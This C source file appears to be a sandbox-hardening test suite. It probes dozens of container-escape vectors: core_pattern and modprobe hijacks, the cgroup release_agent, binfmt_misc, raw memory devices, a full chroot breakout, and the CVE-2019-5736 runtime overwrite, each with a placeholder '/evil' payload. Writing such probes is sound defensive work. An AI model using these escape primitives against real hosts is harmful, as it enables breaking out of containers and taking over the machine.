/* Attacks by way of the file system: mounts, devices, the kernel's files in /proc and /sys. */
#include "hostile.h"
#include <dirent.h>

#define CALL(...) (syscall(__VA_ARGS__) < 0 ? -1 : 0)

static int put(const char *path, const char *text) {
  int fd = open(path, O_WRONLY);
  if (fd < 0) return -1;
  return write(fd, text, strlen(text)) < 0 ? -1 : 0;
}
static int get(const char *path) { /* reading nothing is not a success: a masked file is empty */
  char byte;
  int fd = open(path, O_RDONLY | O_NONBLOCK);
  if (fd < 0) return -1;
  ssize_t got = read(fd, &byte, 1);
  if (got == 0) errno = ENODATA;
  return got == 1 ? 0 : -1;
}
static int core_pattern(void) { return put("/proc/sys/kernel/core_pattern", "|/evil"); }
static int modprobe_path(void) { return put("/proc/sys/kernel/modprobe", "/evil"); }
static int sysrq(void) { return put("/proc/sysrq-trigger", "h"); }
static int sysctl_net(void) { return put("/proc/sys/net/ipv4/ip_forward", "1"); }
static int sysctl_vm(void) { return put("/proc/sys/vm/overcommit_memory", "1"); }
static int binfmt(void) { return put("/proc/sys/fs/binfmt_misc/register", ":e:M::MZ::/evil:C"); }
static int uevent_helper(void) { return put("/sys/kernel/uevent_helper", "/evil"); }
static int sys_power(void) { return put("/sys/power/state", "evil"); }
static int sys_block(void) { return put("/sys/block/loop0/queue/read_ahead_kb", "1"); }
static int kcore(void) { return get("/proc/kcore"); }
static int kallsyms(void) { return get("/proc/kallsyms"); }
static int kmsg(void) { return get("/dev/kmsg"); }
static int dev_mem(void) { return get("/dev/mem"); }
static int keys(void) { return get("/proc/keys"); }
static int timer_list(void) { return get("/proc/timer_list"); }
static int efi(void) { return get("/sys/firmware/efi/systab"); }
static int mount_(void) { return mount("none", "/mnt", "tmpfs", 0, NULL); }
static int mount_proc(void) { return mount("proc", "/mnt", "proc", 0, NULL); }
static int remount(void) { return mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL); }
static int umount_(void) { return umount2("/proc/sys", MNT_DETACH); }
static int fsopen_(void) { return CALL(430, "tmpfs", 0); }
static int open_tree_(void) { return CALL(428, AT_FDCWD, "/proc", 1); }
static int pivot(void) { return CALL(SYS_pivot_root, "/mnt", "/mnt"); }
static int chroot_out(void) { /* the classic way out of a chroot: does it lead above the machine's root? */
  close(open("/only-of-this-machine", O_CREAT | O_WRONLY, 0600));
  if (mkdir("/tmp/cr", 0700)) return -1;
  int root = open("/", O_RDONLY);
  if (chroot("/tmp/cr")) return -1;
  if (fchdir(root)) return -1;
  for (int i = 0; i < 64; i++)
    if (chdir("..")) return -1;
  if (chroot(".")) return -1;
  rmdir("/tmp/cr");
  if (access("/only-of-this-machine", F_OK) == 0) {
    errno = EXDEV; /* it came back to where it was */
    return -1;
  }
  DIR *there = opendir("/");
  for (struct dirent *entry; there && (entry = readdir(there));)
    if (entry->d_name[0] != '.') return 0;
  errno = ENOENT; /* it came to a place where nothing is */
  return -1;
}
static int device(const char *path, int kind, int number) { /* one that can be made and not opened is of no use */
  unlink(path);
  if (mknod(path, kind | 0600, number)) return -1;
  return get(path);
}
static int mknod_block(void) { return device("/tmp/disk", S_IFBLK, 7 << 8); }
static int mknod_mem(void) { return device("/tmp/mem", S_IFCHR, 1 << 8 | 1); }
static int mknod_kmsg(void) { return device("/tmp/kmsg", S_IFCHR, 1 << 8 | 11); }
static int loop_control(void) { return open("/dev/loop-control", O_RDWR) < 0 ? -1 : 0; }
static int fuse(void) { return open("/dev/fuse", O_RDWR) < 0 ? -1 : 0; }
static int kvm(void) { return open("/dev/kvm", O_RDWR) < 0 ? -1 : 0; }
static int tun(void) { return open("/dev/net/tun", O_RDWR) < 0 ? -1 : 0; }
static int release_agent(void) {
  if (put("/sys/fs/cgroup/release_agent", "/evil") == 0) return 0;
  int first = errno;
  mkdir("/tmp/cg", 0700);
  if (mount("cgroup", "/tmp/cg", "cgroup", 0, "memory") == 0) return 0;
  errno = first == ENOENT ? errno : first;
  return -1;
}
static int cgroup_leave(void) {
  const char *places[] = {"/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/pids/cgroup.procs",
                          "/sys/fs/cgroup/memory/memory.limit_in_bytes", "/sys/fs/cgroup/memory.max"};
  for (int i = 0; i < 4; i++)
    if (put(places[i], i < 2 ? "0" : "-1") == 0) return 0;
  return -1;
}
static int host_root(void) { /* does anything of the host's tree show through /proc? */
  struct stat there;
  char path[64];
  for (int pid = 1; pid < 4096; pid++) {
    snprintf(path, sizeof path, "/proc/%d/root/var/lib/dpkg/info/crun.list", pid);
    if (stat(path, &there) == 0) return 0;
  }
  errno = ENOENT;
  return -1;
}
static int write_runtime(void) { /* the file of whoever entered the machine (CVE-2019-5736) */
  char path[64];
  for (int round = 0; round < 20; round++)
    for (int pid = 1; pid < 64; pid++) {
      char target[256] = "";
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      if (readlink(path, target, sizeof target - 1) > 0 && (strstr(target, "crun") || strstr(target, "runsc"))) {
        int fd = open(path, O_WRONLY);
        if (fd >= 0) return 0;
      }
    }
  errno = ENOENT;
  return -1;
}
static int file_capability(void) { /* a version 3 capability with CAP_SYS_ADMIN for the host's root */
  uint32_t value[6] = {0x03000001, 1u << 21, 0, 0, 0, 0};
  int fd = open("/tmp/cap", O_CREAT | O_RDWR, 0755);
  return CALL(SYS_fsetxattr, fd, "security.capability", value, sizeof value, 0);
}
static int trusted_xattr(void) {
  int fd = open("/tmp/attr", O_CREAT | O_RDWR, 0755);
  return CALL(SYS_fsetxattr, fd, "trusted.overlay.opaque", "y", 1, 0);
}

const struct attack file_attacks[] = {
    {"core_pattern", core_pattern}, {"modprobe_path", modprobe_path}, {"sysrq", sysrq}, {"sysctl_net", sysctl_net},
    {"sysctl_vm", sysctl_vm}, {"binfmt_misc", binfmt}, {"uevent_helper", uevent_helper}, {"sys_power", sys_power},
    {"sys_block", sys_block}, {"kcore", kcore}, {"kallsyms", kallsyms}, {"kmsg", kmsg}, {"dev_mem", dev_mem},
    {"proc_keys", keys}, {"timer_list", timer_list}, {"firmware", efi}, {"mount", mount_}, {"mount_proc", mount_proc},
    {"remount", remount}, {"umount", umount_}, {"fsopen", fsopen_}, {"open_tree", open_tree_}, {"pivot_root", pivot},
    {"chroot_out", chroot_out}, {"mknod_block", mknod_block}, {"mknod_mem", mknod_mem}, {"mknod_kmsg", mknod_kmsg},
    {"loop_control", loop_control}, {"fuse", fuse}, {"kvm", kvm}, {"tun", tun}, {"release_agent", release_agent},
    {"cgroup_leave", cgroup_leave}, {"host_root", host_root}, {"write_runtime", write_runtime},
    {"file_capability", file_capability}, {"trusted_xattr", trusted_xattr},
    {NULL, NULL}};
